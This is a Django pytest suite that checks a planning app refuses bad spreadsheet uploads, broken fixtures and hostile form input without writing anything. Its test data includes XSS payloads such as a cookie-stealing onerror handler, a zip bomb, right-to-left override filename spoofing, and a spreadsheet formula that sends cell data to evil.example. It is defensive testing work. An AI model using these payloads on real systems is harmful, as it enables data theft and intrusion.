"""Bad input, everywhere it comes in: spreadsheets through the admin, fixtures through
loaddata, and the browser forms people type in. Each case is refused with a message
that names the problem (and the file's line, for a file) and writes nothing: the row
counts of every model of the plan's apps, and of their history tables, are unchanged.

This is the consolidated list; the spreadsheet cases reuse the file builders of
tests/spreadsheets/test_bad_input.py, which tests each reader's refusals in more detail.
A few cases that show a gap not yet closed are marked ``xfail(strict=True)`` with the
reason: they start passing, and then fail as XPASS, when the gap is closed.
"""

import html
import io
import json
import zipfile
from collections.abc import Callable
from contextlib import contextmanager
from dataclasses import dataclass, field

import openpyxl
import pytest
from django.apps import apps
from django.conf import settings
from django.contrib.messages import get_messages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.core.serializers.base import DeserializationError
from django.urls import reverse

from civicplan.admin import SpreadsheetAdmin
from civicplan.spreadsheets import import_spreadsheet
from initiatives import services
from initiatives.models import Indicator, Initiative, Status, StatusUpdate
from priorities.models import AnnualPlan, Event, EventKind, StrategicPriority
from reporting.models import BoardUpdate
from tests.helpers import client_in
from tests.spreadsheets.files import (
    BAD_LINE,
    PDF,
    PNG,
    RESOURCES,
    bad_file,
    csv_bytes,
    exported,
    find,
    good_rows,
    xlsx_bytes,
)

pytestmark = pytest.mark.django_db

PLAN = "2022-23"
APPS = ("priorities", "initiatives", "reporting")


# --- nothing written -------------------------------------------------------------------


def row_counts() -> dict[str, int]:
    """{model label: row count} for every model of the plan's apps, history tables included."""
    return {
        model._meta.label: model._base_manager.count()
        for app in APPS
        for model in apps.get_app_config(app).get_models()
    }


@contextmanager
def nothing_written():
    before = row_counts()
    yield
    assert row_counts() == before


def test_the_snapshot_covers_every_model_and_its_history(db):
    labels = set(row_counts())
    for app in APPS:
        assert any(label.startswith(f"{app}.") for label in labels), app
    for label in (
        "initiatives.StatusUpdate",
        "initiatives.HistoricalStatusUpdate",
        "initiatives.HistoricalIndicatorValue",
        "initiatives.HistoricalLearningReflection",
        "priorities.HistoricalEvent",
        "reporting.BoardUpdate",
        "reporting.HistoricalBoardUpdate",
    ):
        assert label in labels


# --- users and pages -------------------------------------------------------------------


def messages_of(response) -> list[str]:
    return [str(m) for m in get_messages(response.wsgi_request)]


def shown(response, message: str) -> bool:
    return html.escape(message) in response.content.decode()


# --- files -----------------------------------------------------------------------------

ADMIN_MODELS = {
    "initiatives": ("initiatives", "initiative"),
    "results": ("priorities", "expectedresult"),
    "events": ("priorities", "event"),
    "indicators": ("initiatives", "indicator"),
    "values": ("initiatives", "indicatorvalue"),
    "updates": ("initiatives", "statusupdate"),
}
FORMAT_INDEX = {
    "csv": str([f.__name__ for f in SpreadsheetAdmin.formats].index("SafeCSV")),
    "xlsx": str([f.__name__ for f in SpreadsheetAdmin.formats].index("SafeXLSX")),
}
CONTENT_TYPES = {
    "csv": "text/csv",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}


def admin_preview(client, kind: str, name: str, data: bytes, fmt: str):
    """Upload ``data`` as ``name`` to the admin's import page of ``kind``, in format ``fmt``."""
    app, model = ADMIN_MODELS[kind]
    upload = SimpleUploadedFile(name, data, content_type=CONTENT_TYPES[fmt])
    return client.post(
        reverse(f"admin:{app}_{model}_import"), {"resource": "0", "format": FORMAT_INDEX[fmt], "import_file": upload}
    )


@dataclass(frozen=True)
class FileCase:
    kind: str
    fmt: str
    build: Callable[[], tuple[str, bytes]]  # (the file's name, its bytes), built when the test runs
    fragments: tuple[str, ...]  # all in one message, from the admin page and from the import
    admin_fragments: tuple[str, ...] = ()  # when the admin's upload form refuses first, in its own words


def named(name: str, data: bytes) -> tuple[str, bytes]:
    return name, data


def csv_of(kind: str, **csv_options) -> tuple[str, bytes]:
    headers, rows = good_rows(kind)
    return f"{kind}.csv", csv_bytes(headers, rows, **csv_options)


def latin1_csv():
    headers, rows = good_rows("initiatives")
    rows = [rows[0] | {"description_fr": "Révisée à l'été."}, rows[1]]
    return "initiatives.csv", csv_bytes(headers, rows, encoding="latin-1")


def empty_workbook():
    out = io.BytesIO()
    openpyxl.Workbook().save(out)
    return "updates.xlsx", out.getvalue()


def header_only(fmt: str):
    headers, _rows = good_rows("updates")
    return f"updates.{fmt}", csv_bytes(headers, []) if fmt == "csv" else xlsx_bytes(headers, [])


def with_unknown_column():
    headers, rows = good_rows("updates")
    return "updates.csv", csv_bytes([*headers, "budget"], [row | {"budget": "1000"} for row in rows])


def without_title_column():
    headers, rows = good_rows("initiatives")
    return "initiatives.csv", csv_bytes([h for h in headers if h != "title_fr"], rows)


def truncated_xlsx():
    headers, rows = good_rows("updates")
    data = xlsx_bytes(headers, rows)
    return "updates.xlsx", data[: len(data) // 2]


def zip_bomb():
    """A real workbook whose sheet is replaced by a little more than the unpacked limit of
    zeros: a few tens of kilobytes on disk."""
    headers, rows = good_rows("updates")
    source = zipfile.ZipFile(io.BytesIO(xlsx_bytes(headers, rows)))
    bomb = b"\x00" * (settings.SPREADSHEET_MAX_UNPACKED_BYTES + 1024 * 1024)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for member in source.infolist():
            content = bomb if member.filename == "xl/worksheets/sheet1.xml" else source.read(member)
            archive.writestr(member.filename, content)
    data = out.getvalue()
    assert len(data) < 200 * 1024 < settings.SPREADSHEET_MAX_BYTES
    return "updates.xlsx", data


def over_the_row_limit():
    headers, rows = good_rows("updates")
    return "updates.csv", csv_bytes(headers, [rows[0]] * (settings.SPREADSHEET_MAX_ROWS + 1))


def over_the_byte_limit():
    headers, rows = good_rows("updates")
    data = csv_bytes(headers, rows)
    padding = settings.SPREADSHEET_MAX_BYTES + 1 - len(data)
    return "updates.csv", data + b"\r\n" * (padding // 2) + b"\n" * (padding % 2)


def key_twice():
    headers, rows = good_rows("updates")
    again = dict(rows[0]) | {"narrative": "Une autre version du même rapport."}
    return "updates.csv", csv_bytes(headers, rows[:3] + [again] + rows[3:])  # line 5 repeats line 2


def event_slug_in_other_capitals():
    """A row naming an existing event by its slug written with other capitals."""
    headers, rows = exported("events")
    row = find(rows, slug="q1-audit-financier-et-rapports-iita")
    return "events.csv", csv_bytes(headers, [row | {"slug": row["slug"].title(), "title_fr": "Audit (doublon)"}])


def formula_cell():
    headers, rows = good_rows("updates")
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(headers, rows)))
    sheet = book.active
    assert sheet["G1"].value == "narrative"
    sheet["G3"] = '=HYPERLINK("https://evil.example/?d="&A2,"Cliquez ici")'
    out = io.BytesIO()
    book.save(out)
    return "updates.xlsx", out.getvalue()


def bad_row(kind: str, **overrides):
    return lambda: (f"{kind}.csv", bad_file(kind, overrides))


def line(message: str, n: int = BAD_LINE) -> tuple[str, str]:
    return f"Line {n}: ", message


FILE_CASES = [
    pytest.param(
        FileCase("initiatives", "csv", latin1_csv, ("not UTF-8 text (byte 0xe9 on line 2)", "CSV UTF-8")),
        id="latin1-csv",
    ),
    pytest.param(
        FileCase("initiatives", "csv", lambda: csv_of("initiatives", encoding="utf-16"), ("UTF-16", "CSV UTF-8")),
        id="utf16-csv",
    ),
    pytest.param(
        FileCase("initiatives", "csv", lambda: csv_of("initiatives", encoding="utf-16-le"), ("NUL bytes",)),
        id="utf16-csv-without-byte-order-mark",
    ),
    pytest.param(
        FileCase(
            "updates",
            "csv",
            lambda: named("updates.csv", b""),
            ("The file is empty",),
            admin_fragments=("The submitted file is empty",),
        ),
        id="empty-csv",
    ),
    pytest.param(FileCase("updates", "xlsx", empty_workbook, ("The file is empty",)), id="empty-xlsx"),
    pytest.param(
        FileCase("updates", "csv", lambda: header_only("csv"), ("column names but no rows",)), id="header-only-csv"
    ),
    pytest.param(
        FileCase("updates", "xlsx", lambda: header_only("xlsx"), ("column names but no rows",)), id="header-only-xlsx"
    ),
    pytest.param(
        FileCase("updates", "csv", with_unknown_column, ("The columns do not fit", "unknown columns: budget")),
        id="unknown-column",
    ),
    pytest.param(
        FileCase("initiatives", "csv", without_title_column, ("The columns do not fit", "missing columns: title_fr.")),
        id="missing-required-column",
    ),
    pytest.param(
        FileCase("updates", "xlsx", lambda: named("plan.xlsx", PDF), ("not an XLSX workbook", "not a zip archive")),
        id="pdf-named-xlsx",
    ),
    pytest.param(
        FileCase("updates", "csv", lambda: named("plan.csv", PNG), ("This is a PNG image, not CSV text",)),
        id="png-named-csv",
    ),
    pytest.param(
        FileCase(
            "updates",
            "csv",
            lambda: ("updates.csv", xlsx_bytes(*good_rows("updates"))),
            ("This is an XLSX", "choose the XLSX format"),
        ),
        id="xlsx-named-csv",
    ),
    pytest.param(FileCase("updates", "xlsx", truncated_xlsx, ("not an XLSX workbook",)), id="truncated-xlsx"),
    pytest.param(
        FileCase("updates", "xlsx", zip_bomb, ("unpacks to more than", "possible zip bomb")), id="zip-bomb-xlsx"
    ),
    pytest.param(
        FileCase("updates", "csv", over_the_row_limit, ("The file has more than", "rows", "Split it")),
        id="over-the-row-limit",
    ),
    pytest.param(
        FileCase("updates", "csv", over_the_byte_limit, ("bytes; the limit is", "Split it")),
        id="over-the-byte-limit",
    ),
    pytest.param(
        FileCase("updates", "csv", key_twice, (*line("This row repeats line 2", 5), "plan, priority, initiative")),
        id="key-twice-in-the-file",
    ),
    pytest.param(
        FileCase("events", "csv", event_slug_in_other_capitals, ("q1-audit-financier-et-rapports-iita",)),
        id="duplicate-of-an-event-in-the-database",
    ),
    pytest.param(
        FileCase("events", "csv", bad_row("events", plan="2021-22"), line("There is no annual plan «2021-22»")),
        id="unknown-plan",
    ),
    pytest.param(
        FileCase(
            "initiatives", "csv", bad_row("initiatives", priority="9"), line("There is no priority 9 in plan «2022-23»")
        ),
        id="unknown-priority",
    ),
    pytest.param(
        FileCase(
            "updates",
            "csv",
            bad_row("updates", priority="1", initiative="9"),
            line("Priority 1 has no initiative 9"),
        ),
        id="unknown-initiative",
    ),
    pytest.param(
        FileCase("updates", "xlsx", formula_cell, ("Cell G3 (line 3) holds a formula", "put its value instead")),
        id="formula-cell-hyperlink",
    ),
    pytest.param(
        FileCase(
            "events",
            "csv",
            bad_row("events", quarter="3", start_date="2023-02-30", end_date=""),
            line("«2023-02-30» is not a date"),
        ),
        id="date-2023-02-30",
    ),
    pytest.param(
        FileCase("updates", "csv", bad_row("updates", quarter="5"), line("Quarter 5 does not exist")), id="quarter-5"
    ),
    pytest.param(
        FileCase("values", "csv", bad_row("values", quarter="0"), line("Quarter 0 does not exist")), id="quarter-0"
    ),
    pytest.param(
        FileCase(
            "events",
            "csv",
            bad_row("events", quarter="1", start_date="2022-08-10", end_date="2022-08-01"),
            line("end_date: The event ends before it starts"),
        ),
        id="end-date-before-start-date",
    ),
    pytest.param(
        FileCase(
            "events",
            "csv",
            bad_row("events", quarter="1", start_date="2022-11-15", end_date=""),
            line("start_date: 2022-11-15 is outside Q1 (2022-07-01 to 2022-09-30)"),
        ),
        id="event-date-outside-its-quarter",
    ),
    pytest.param(
        FileCase("values", "csv", bad_row("values", value="beaucoup"), line("«beaucoup» is not a number")),
        id="indicator-value-not-a-number",
    ),
    pytest.param(
        FileCase("values", "csv", bad_row("values", value="-5"), line("negative")),
        id="indicator-value-negative",
    ),
]


@pytest.mark.parametrize("case", FILE_CASES)
def test_a_bad_file_is_refused_and_writes_nothing(client, demo_progress, superuser, case):
    """Through the admin's import page (what an admin sees), then through the import itself
    for real (not a dry run): both refuse, say why, and write nothing."""
    name, data = case.build()
    client.force_login(superuser)
    with nothing_written():
        response = admin_preview(client, case.kind, name, data, case.fmt)
        assert response.status_code == 200
        assert response.context.get("confirm_form") is None
        problems = list(response.context["form"].errors.get("import_file", [])) + messages_of(response)
        wanted = case.admin_fragments or case.fragments
        matching = [p for p in problems if all(f in p for f in wanted)]
        assert matching, (wanted, problems)
        assert shown(response, matching[0])

        report = import_spreadsheet(RESOURCES[case.kind](), data, case.fmt, dry_run=False, user=superuser)
        assert not report.ok
        assert report.summary().startswith("Nothing was imported")
        assert any(all(f in e for f in case.fragments) for e in report.errors), (case.fragments, report.errors)
        if case.fragments[0].startswith("Line "):
            assert all(e.startswith(case.fragments[0]) for e in report.errors), report.errors


def test_utf8_with_a_byte_order_mark_is_accepted(client, demo_progress, superuser):
    """The one file that looks odd but is fine: Excel's "CSV UTF-8" starts with a BOM."""
    headers, rows = good_rows("updates")
    data = b"\xef\xbb\xbf" + csv_bytes(headers, rows)
    client.force_login(superuser)
    before = row_counts()
    response = admin_preview(client, "updates", "updates.csv", data, "csv")
    assert response.status_code == 200
    assert "1 new, 1 changed, 3 unchanged." in messages_of(response)
    confirm_form = response.context["confirm_form"]
    assert row_counts() == before  # the preview writes nothing

    confirm = {name: confirm_form.initial[name] for name in ("import_file_name", "original_file_name", "format")}
    confirm["resource"] = confirm_form.initial.get("resource", "")
    response = client.post(reverse("admin:initiatives_statusupdate_process_import"), confirm)
    assert response.status_code == 302
    update = StatusUpdate.objects.get_by_natural_key(PLAN, 1, 1, 1)
    assert (update.status, update.narrative) == ("at_risk", "Retard.")
    assert StatusUpdate.objects.get_by_natural_key(PLAN, 1, 1, 4).next_steps == "Démarrer en avril."
    after = row_counts()
    changed = {label: after[label] - before[label] for label in after if after[label] != before[label]}
    # One new update, and a history record for it and for the changed one.
    assert changed == {"initiatives.StatusUpdate": 1, "initiatives.HistoricalStatusUpdate": 2}


# --- fixtures --------------------------------------------------------------------------

# Each starts with a good object, so that "nothing written" shows the good one rolled back.
NEW_RESULT = {
    "model": "priorities.expectedresult",
    "fields": {"priority": [PLAN, 1], "number": 7, "text_fr": "Nouveau."},
}


@dataclass(frozen=True)
class FixtureCase:
    text: str
    fragments: tuple[str, ...]


FIXTURE_CASES = [
    pytest.param(
        FixtureCase(
            json.dumps([NEW_RESULT])[:-1] + ', {"model": "priorities.expectedresult", "fields": {"number": }}]',
            ("Problem installing fixture", "broken.json"),
        ),
        id="broken-json",
    ),
    pytest.param(
        FixtureCase(
            json.dumps(
                [
                    NEW_RESULT,
                    {
                        "model": "initiatives.initiative",
                        "fields": {"priority": [PLAN, 9], "number": 1, "title_fr": "Orpheline", "expected_results": []},
                    },
                ]
            ),
            ("Problem installing fixture", "broken.json", "Initiative has no priority"),
        ),
        id="dangling-natural-key-priority",
    ),
    pytest.param(
        FixtureCase(
            json.dumps(
                [
                    NEW_RESULT,
                    {
                        "model": "initiatives.initiative",
                        "fields": {
                            "priority": [PLAN, 1],
                            "number": 8,
                            "title_fr": "Au service d'un résultat absent",
                            "expected_results": [[PLAN, 1, 9]],
                        },
                    },
                ]
            ),
            ("ExpectedResult matching query does not exist", "['2022-23', 1, 9]"),
        ),
        id="dangling-natural-key-expected-result",
    ),
    pytest.param(
        FixtureCase(
            json.dumps([NEW_RESULT, {"model": "priorities.nosuchthing", "fields": {}}]),
            ("broken.json", "Invalid model identifier: priorities.nosuchthing"),
        ),
        id="unknown-model",
    ),
]


@pytest.mark.parametrize("case", FIXTURE_CASES)
def test_a_broken_fixture_is_refused_and_writes_nothing(seed_plan, tmp_path, case):
    """loaddata runs in one transaction: the good object before the bad one is not kept."""
    path = tmp_path / "broken.json"
    path.write_text(case.text, encoding="utf-8")
    with nothing_written(), pytest.raises(DeserializationError) as raised:
        call_command("loaddata", str(path), verbosity=0)
    message = str(raised.value)
    for fragment in case.fragments:
        assert fragment in message, message
    assert not Initiative.objects.filter(title_fr__in=["Orpheline", "Au service d'un résultat absent"]).exists()


def test_broken_json_says_where(seed_plan, tmp_path):
    """Django's message names the file only; the JSON error it wraps (shown by manage.py's
    traceback) says the line and column."""
    path = tmp_path / "broken.json"
    path.write_text('[\n  {"model": "priorities.expectedresult",\n   "fields": {"number": }}\n]\n', encoding="utf-8")
    with nothing_written(), pytest.raises(DeserializationError) as raised:
        call_command("loaddata", str(path), verbosity=0)
    assert isinstance(raised.value.__cause__, json.JSONDecodeError)
    assert "line 3 column" in str(raised.value.__cause__)


# --- forms -----------------------------------------------------------------------------

INDICATOR = "1.1.1"  # of initiative 1.1: baseline 12, target 30


def initiative(code: str) -> Initiative:
    priority, number = (int(n) for n in code.split("."))
    return Initiative.objects.get_by_natural_key(PLAN, priority, number)


def indicator(code: str) -> Indicator:
    return Indicator.objects.get_by_natural_key(PLAN, *(int(n) for n in code.split(".")))


def quarterly_url() -> str:
    """Initiative 1.1 in Q3, which has an update: staff leads it."""
    return reverse("initiatives:update", args=[initiative("1.1").pk, 3])


def quarterly_form(client, users, username="staff") -> dict:
    """The form as opened, with risks written (the status may need them): valid as it is."""
    client.force_login(users[username])
    page = client.get(quarterly_url())
    assert page.status_code == 200
    data = {name: value for name, value in page.context["form"].initial.items() if value is not None}
    return data | {"risks": data.get("risks") or "Un risque."}


def event_form(client, users) -> dict:
    client.force_login(users["editor"])
    plan = AnnualPlan.objects.get(slug=PLAN)
    return {
        "title_fr": "Atelier des membres",
        "quarter": plan.quarters.get(number=2).pk,
        "kind": EventKind.NETWORK,
        "start_date": "2022-11-14",
        "end_date": "2022-11-15",
        "priority": StrategicPriority.objects.get(annual_plan=plan, number=5).pk,
        "initiative": "",
        "description_fr": "Deux jours avec les membres.",
    }


def board_url() -> str:
    return reverse("reporting:board", args=[PLAN, 2])


def board_form(client, users) -> dict:
    client.force_login(users["editor"])
    return {"message_fr": "Chers membres du Conseil, un trimestre contrasté.", "highlights_fr": "Un\nDeux"}


FORMS = {
    "quarterly": (quarterly_form, quarterly_url),
    "event": (event_form, lambda: reverse("priorities:event_create", args=[PLAN])),
    "board": (board_form, board_url),
}

TOO_LONG = "x" * 10_001  # the limit of the texts typed in the browser is 10,000 characters
BIDI = "\u202e"  # RIGHT-TO-LEFT OVERRIDE: "txt.exe" shows as "exe.txt"
BIDI_MESSAGE = "contains invisible direction-control characters"
NUL_MESSAGE = "Null characters are not allowed."
PLAIN_MESSAGE = "Write plain text"


@dataclass(frozen=True)
class FormCase:
    form: str
    field: str  # "indicator" for initiative 1.1's indicator INDICATOR
    value: str
    fragment: str
    changes: dict = field(default_factory=dict)


FORM_CASES = [
    # The quarterly update, by the initiative's lead.
    pytest.param(
        FormCase("quarterly", "narrative", TOO_LONG, "at most 10000 characters (it has 10001)"), id="q-narrative-long"
    ),
    pytest.param(FormCase("quarterly", "narrative", "Avancé\x00 bien.", NUL_MESSAGE), id="q-narrative-nul"),
    pytest.param(
        FormCase("quarterly", "narrative", f"Rapport {BIDI}fdp.exe{BIDI} envoyé.", BIDI_MESSAGE), id="q-narrative-rlo"
    ),
    pytest.param(
        FormCase("quarterly", "risks", "Budget \u2066retardé\u2069.", BIDI_MESSAGE, {"status": Status.AT_RISK}),
        id="q-risks-isolate",
    ),
    pytest.param(FormCase("quarterly", "next_steps", "\u202aÉtape\u202c suivante.", BIDI_MESSAGE), id="q-next-lre"),
    pytest.param(FormCase("quarterly", "reflection", "Appris \u202b: rien.", BIDI_MESSAGE), id="q-reflection-rle"),
    pytest.param(
        FormCase(
            "quarterly",
            "narrative",
            "<script>alert(1)</script>",
            "Write plain text: the text contains an HTML tag («<script…»)",
        ),
        id="q-narrative-script",
    ),
    pytest.param(
        FormCase("quarterly", "next_steps", '<img src=x onerror="alert(1)">', PLAIN_MESSAGE), id="q-next-img-onerror"
    ),
    pytest.param(
        FormCase("quarterly", "reflection", "Voir <a href='javascript:alert(1)'>ici</a>.", PLAIN_MESSAGE),
        id="q-reflection-link",
    ),
    pytest.param(
        FormCase("quarterly", "risks", "Risque <!-- caché -->", PLAIN_MESSAGE, {"status": Status.OFF_TRACK}),
        id="q-risks-html-comment",
    ),
    pytest.param(FormCase("quarterly", "reflection", TOO_LONG, "at most 10000 characters"), id="q-reflection-long"),
    pytest.param(
        FormCase(
            "quarterly",
            "indicator",
            "-5",
            # The indicator's name in the reader's language (the client reads English).
            f"{INDICATOR} Alliance advocacy and campaign initiatives drawing on our analysis "
            "cannot be negative (its baseline and target are not)",
        ),
        id="q-indicator-negative",
    ),
    pytest.param(FormCase("quarterly", "indicator", "abc", "Enter a number."), id="q-indicator-abc"),
    pytest.param(FormCase("quarterly", "indicator", "NaN", "Enter a number."), id="q-indicator-nan"),
    pytest.param(
        FormCase("quarterly", "indicator", "123456789012345", "no more than 14 digits"), id="q-indicator-too-big"
    ),
    # An event of the calendar, by an editor.
    pytest.param(
        FormCase("event", "title_fr", "T" * 301, "at most 300 characters (it has 301)"), id="event-title-long"
    ),
    pytest.param(
        FormCase("event", "description_fr", TOO_LONG, "at most 10000 characters (it has 10001)"),
        id="event-description-long",
    ),
    pytest.param(FormCase("event", "title_fr", "Atelier\x00", NUL_MESSAGE), id="event-title-nul"),
    pytest.param(FormCase("event", "title_fr", f"Atelier {BIDI}gnp.exe", BIDI_MESSAGE), id="event-title-rlo"),
    pytest.param(FormCase("event", "description_fr", "Deux \u2067jours\u2069.", BIDI_MESSAGE), id="event-desc-isolate"),
    pytest.param(FormCase("event", "title_fr", "<script>alert(1)</script>", PLAIN_MESSAGE), id="event-title-script"),
    pytest.param(
        FormCase("event", "description_fr", "<img src=x onerror=alert(document.cookie)>", PLAIN_MESSAGE),
        id="event-desc-img-onerror",
    ),
    pytest.param(FormCase("event", "description_fr", "Fin </textarea>", PLAIN_MESSAGE), id="event-desc-closing-tag"),
    # The board update's draft, by an editor.
    pytest.param(FormCase("board", "message_fr", "Chers membres\x00", NUL_MESSAGE), id="board-message-nul"),
    pytest.param(FormCase("board", "message_fr", TOO_LONG, "at most"), id="board-message-long"),
    pytest.param(FormCase("board", "message_fr", f"Bilan {BIDI}Q2", BIDI_MESSAGE), id="board-rlo"),
    pytest.param(
        FormCase("board", "highlights_fr", "<script>alert(1)</script>", PLAIN_MESSAGE),
        id="board-highlights-script",
    ),
]


def form_field_name(case: FormCase) -> str:
    if case.field == "indicator":
        return f"indicator_{indicator(INDICATOR).pk}"
    return case.field


@pytest.mark.parametrize("case", FORM_CASES)
def test_bad_input_in_a_form_is_refused_beside_its_field_and_writes_nothing(client, users, case):
    fill, url = FORMS[case.form]
    name = form_field_name(case)
    data = fill(client, users) | case.changes | {name: case.value}
    update = StatusUpdate.objects.get_by_natural_key(PLAN, 1, 1, 3)
    with nothing_written():
        response = client.post(url(), data)
    assert response.status_code == 400
    errors = response.context["form"].errors
    assert list(errors) == [name], errors  # refused for this field's value, and for nothing else
    matching = [e for e in errors[name] if case.fragment in e]
    assert matching, (case.fragment, errors[name])
    assert shown(response, matching[0])
    assert StatusUpdate.objects.get(pk=update.pk).version == update.version


@pytest.mark.parametrize(
    ("form", "field_name", "value"),
    [
        pytest.param("quarterly", "narrative", "Taux d'erreur < 5 % ; délai <= 3 jours ; x < y ; <3.", id="q"),
        pytest.param("quarterly", "reflection", "مرحبا : de l'arabe, de droite à gauche.", id="q-rtl"),
        pytest.param("event", "description_fr", "Moins de < 10 participants ; budget <= 2 000 €.", id="event"),
        pytest.param("board", "message_fr", "Taux d'exécution < 5 % au T2.", id="board"),
    ],
)
def test_a_less_than_sign_and_right_to_left_script_are_plain_text(client, users, form, field_name, value):
    """The refusals above do not catch ordinary text: "<" before a space, a digit or "=",
    and a right-to-left script without invisible controls, are saved as typed."""
    fill, url = FORMS[form]
    data = fill(client, users) | {field_name: value}
    response = client.post(url(), data)
    assert response.status_code == 302, response.context["form"].errors
    if form == "quarterly":
        update = StatusUpdate.objects.get_by_natural_key(PLAN, 1, 1, 3)
        stored = services.quarterly_state(initiative=update.initiative, quarter=update.quarter)[field_name]
    elif form == "event":
        stored = Event.objects.get(annual_plan__slug=PLAN, title_fr=data["title_fr"]).description_fr
    else:
        stored = BoardUpdate.objects.get(quarter__annual_plan__slug=PLAN, quarter__number=2).message_fr
    assert stored == value


def test_a_stale_form_is_refused_as_a_conflict_and_writes_nothing(client, users):
    """Staff opened the form; an editor saved the same update since. Staff's save is
    refused with what changed, and nothing of it is written."""
    stale = quarterly_form(client, users) | {"narrative": "Version périmée de Samuel."}
    editor = client_in("en")
    fresh = quarterly_form(editor, users, "editor") | {"narrative": "Version de l'éditrice."}
    assert editor.post(quarterly_url(), fresh).status_code == 302
    update = StatusUpdate.objects.get_by_natural_key(PLAN, 1, 1, 3)

    with nothing_written():
        response = client.post(quarterly_url(), stale)

    assert response.status_code == 409
    assert response.context["conflict"] is not None
    assert "narrative" in response.context["conflict"].changed
    assert "Progress this quarter" in [str(row["label"]) for row in response.context["conflict_rows"]]
    assert "Someone else saved this update" in response.content.decode()
    assert StatusUpdate.objects.get(pk=update.pk).version == update.version
    assert not StatusUpdate.history.filter(narrative="Version périmée de Samuel.").exists()


# --- the count -------------------------------------------------------------------------


def test_the_suite_has_at_least_40_cases():
    refusals = [
        p
        for cases in (FILE_CASES, FIXTURE_CASES, FORM_CASES)
        for p in cases
        if not any(mark.name == "xfail" for mark in p.marks)
    ]
    assert len(refusals) >= 40, len(refusals)
